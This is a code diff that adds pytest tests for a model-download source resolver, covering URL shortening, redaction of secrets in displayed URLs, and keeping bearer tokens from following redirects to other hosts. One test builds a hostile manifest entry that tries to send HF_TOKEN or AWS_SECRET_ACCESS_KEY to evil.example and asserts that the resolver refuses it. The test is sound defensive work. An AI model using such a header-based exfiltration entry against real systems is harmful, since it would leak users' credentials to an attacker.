@@ -231,6 +231,8 @@ def test_a_line_break_in_a_header_is_refused(monkeypatch: pytest.MonkeyPatch) ->
         ("civitai://123", "https://civitai.com/api/download/models/123"),
         ("modelscope://a/b/d.bin", "https://modelscope.cn/models/a/b/resolve/master/d.bin"),
         ("https://h/x", "https://h/x"),
+        ("s3://bucket/x", "s3://bucket/x"),
+        ("/library/x", "/library/x"),
     ],
 )
 def test_short_addresses_stand_for_long_ones(short: str, long: str) -> None:
@@ -240,6 +242,62 @@ def test_short_addresses_stand_for_long_ones(short: str, long: str) -> None:
 def test_what_is_shown_of_a_url_holds_no_secret() -> None:
     assert sources.shown("https://u:p@h.example:8443/a/b?sig=S#f") == "https://h.example:8443/a/b"
     assert sources.shown("https://h.example:443/a") == "https://h.example/a"
+    assert sources.shown("s3://bucket/a/b?versionId=1") == "s3://bucket/a/b"
+    assert sources.shown("file:///library/a%20b") == "/library/a b"
+
+
+def test_a_token_goes_to_its_own_host_and_no_further(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("MY_TOKEN", "t")
+    with Origin() as origin:
+        url = origin.put("/a", redirect_to="/b")
+        origin.put("/b", redirect_to=origin.at("localhost", origin.put("/c", b"x")))
+        tokens = {url.split("/")[2]: "MY_TOKEN"}
+        remote = sources.resolve(entry(url), url, allow_hosts=LOCAL, tokens=tokens)
+        assert remote.headers == ()
+        sent = [(hit.path, hit.headers.get("authorization")) for hit in origin.log]
+        assert sent == [("/a", "Bearer t"), ("/b", "Bearer t"), ("/c", None)]
+        mirror = entry(origin.at("localhost", url), url)
+        assert not sources.resolve(mirror, mirror.urls[0], allow_hosts=LOCAL, tokens=tokens).headers
+        stranger = entry(url, is_anonymous=True)
+        origin.log.clear()
+        sources.resolve(stranger, url, allow_hosts=LOCAL, tokens=tokens)
+        assert all("authorization" not in hit.headers for hit in origin.log), "a workflow gets no token"
+
+
+def test_a_manifests_own_header_counts_before_the_hosts_token(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("MY_TOKEN", "t")
+    monkeypatch.setenv("OTHER", "o")
+    with Origin() as origin:
+        url = origin.put("/a", b"x", token="o")
+        tokens = {url.split("/")[2]: "MY_TOKEN"}
+        own = entry(url, headers={"Authorization": "Bearer $OTHER"})
+        remote = sources.resolve(own, url, allow_hosts=LOCAL, tokens=tokens)
+        assert remote.headers == ("Authorization: Bearer o",)
+
+
+def test_a_missing_token_of_a_host_is_named(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.delenv("MY_TOKEN", raising=False)
+    with Origin() as origin:
+        url = origin.put("/a", b"x", token="right")
+        tokens = {url.split("/")[2]: "MY_TOKEN"}
+        with pytest.raises(SourceRefused, match="environment variable \\$MY_TOKEN, whose token belongs"):
+            sources.resolve(entry(url), url, allow_hosts=LOCAL, tokens=tokens)
+        with pytest.raises(SourceRefused, match="offers --accept checkpoints/a.safetensors"):
+            sources.resolve(entry(url, is_anonymous=True), url, allow_hosts=LOCAL, tokens=tokens)
+
+
+@pytest.mark.parametrize(
+    ("variable", "home"), [("HF_TOKEN", "huggingface.co"), ("AWS_SECRET_ACCESS_KEY", "a store of your own")]
+)
+def test_a_manifest_cannot_send_a_well_known_secret_elsewhere(
+    monkeypatch: pytest.MonkeyPatch, variable: str, home: str
+) -> None:
+    monkeypatch.setenv(variable, "secret")
+    url = "https://evil.example/a.safetensors"
+    thief = entry(url, headers={"X-Key": f"${{{variable}}}"})
+    with pytest.raises(SourceRefused, match=f"{variable} to evil.example, but that .* {home}") as caught:
+        sources.resolve(thief, url)
+    assert f"--depot-tokens evil.example={variable}" in str(caught.value)
 
 
 def test_retry_after_is_a_number_or_a_date() -> None:
